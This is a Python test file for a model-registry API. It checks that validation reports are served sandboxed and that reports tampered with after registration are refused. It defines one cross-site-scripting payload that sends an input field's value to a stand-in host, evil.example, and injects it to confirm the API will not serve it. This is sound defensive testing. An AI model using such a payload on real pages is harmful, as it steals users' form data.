"""The registry view links each version's validation report, and the API serves it only as registered:
its digest checked, sandboxed (no script can run), never a 500 for a report that is not text."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote, urlparse

import pytest
from fastapi.testclient import TestClient

from credit_risk import registry
from serving.schemas import RegistryOut
from tests.conftest import TrainedModel
from tests.serving.conftest import app_client

pytestmark = pytest.mark.code

SCRIPT = b"<script>fetch('https://evil.example/?t='+parent.document.querySelector('input').value)</script>"


def test_the_registry_view_links_every_versions_validation_report(client: TestClient) -> None:
    body = RegistryOut.model_validate(client.get("/v1/registry").json())
    assert body.versions
    for version in body.versions:
        assert version.validation_report == f"/v1/registry/versions/{version.version}/validation_report"
        response = client.get(version.validation_report)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("text/html")
        assert f"version {version.version}</h1>" in response.text


def test_an_unknown_or_malformed_version_has_no_report(client: TestClient) -> None:
    assert client.get("/v1/registry/versions/999/validation_report").status_code == 404
    assert client.get("/v1/registry/versions/abc/validation_report").status_code == 422
    assert client.get("/v1/registry/versions/999/validation_report/data").status_code == 404


def test_a_report_is_served_sandboxed_so_no_script_in_it_can_run(client: TestClient, trained: TrainedModel) -> None:
    response = client.get(f"/v1/registry/versions/{trained.version.version}/validation_report")
    assert response.status_code == 200, response.text
    policy = [part.strip() for part in response.headers["content-security-policy"].split(";")]
    assert "sandbox" in policy, "a bare sandbox: no allow-scripts, a unique origin"
    assert not [part for part in policy if "allow-scripts" in part or "script-src" in part]
    assert response.headers["x-content-type-options"] == "nosniff"


def test_the_reports_data_is_served_as_registered(client: TestClient, trained: TrainedModel) -> None:
    version = trained.version
    response = client.get(f"/v1/registry/versions/{version.version}/validation_report/data")
    assert response.status_code == 200, response.text
    data = response.json()
    assert (data["model_name"], data["version"]) == (version.name, str(version.version))
    assert data["lineage"]["artifact_sha256"] == version.tags[registry.ARTIFACT_DIGEST_TAG]


# ------------------------------------------------------------------ a report changed after registration


def _report_file(trained: TrainedModel, name: str = registry.REPORT_PAGE) -> Path:
    run = trained.store.client.get_run(trained.version.run_id)
    return Path(unquote(urlparse(run.info.artifact_uri).path)) / registry.REPORT_DIR / name


@contextlib.contextmanager
def _rewritten(trained: TrainedModel, content: bytes, *, forge_digest: bool = False) -> Iterator[None]:
    """The session version's report page replaced by ``content`` (and its digest tag by the new files'
    digest, as someone who can write the registry but has no signing key can); put back afterwards."""
    client, version = trained.store.client, trained.version
    page = _report_file(trained)
    original = page.read_bytes()
    tag = registry.get_version(client, version.name, version.version).tags[registry.REPORT_DIGEST_TAG]
    try:
        page.write_bytes(content)
        if forge_digest:
            forged = registry.report_digest(page.parent)
            client.set_model_version_tag(version.name, str(version.version), registry.REPORT_DIGEST_TAG, forged)
        yield
    finally:
        page.write_bytes(original)
        client.set_model_version_tag(version.name, str(version.version), registry.REPORT_DIGEST_TAG, tag)


def test_a_report_rewritten_after_registration_is_refused(trained: TrainedModel, tmp_path: Path) -> None:
    """Someone who can write the registry puts a script into a registered version's report: the API
    refuses to serve it (a 409 saying so), whoever asks, and never sends the script."""
    path = f"/v1/registry/versions/{trained.version.version}/validation_report"
    page = _report_file(trained).read_bytes()
    rewritten = page.replace(b"<body>", b"<body>" + SCRIPT, 1)
    with _rewritten(trained, rewritten), app_client(trained.store, tmp_path) as service:
        for route in (path, f"{path}/data"):
            response = service.get(route)
            assert response.status_code == 409, response.text
            assert response.headers["content-type"] == "application/json"
            assert "does not match what was registered" in response.json()["detail"]
            assert b"<script" not in response.content


def test_a_report_that_is_not_utf8_is_a_clear_409_not_a_500(trained: TrainedModel, tmp_path: Path) -> None:
    """Without a signing key a registry writer can also rewrite the digest tag: the bytes then match,
    and a page that is not UTF-8 text is refused with a sentence, never an internal error."""
    not_text = b"<html>\xff\xfe not text</html>"
    with _rewritten(trained, not_text, forge_digest=True), app_client(trained.store, tmp_path) as service:
        response = service.get(f"/v1/registry/versions/{trained.version.version}/validation_report")
    assert response.status_code == 409, response.text
    assert "is not UTF-8 text" in response.json()["detail"]
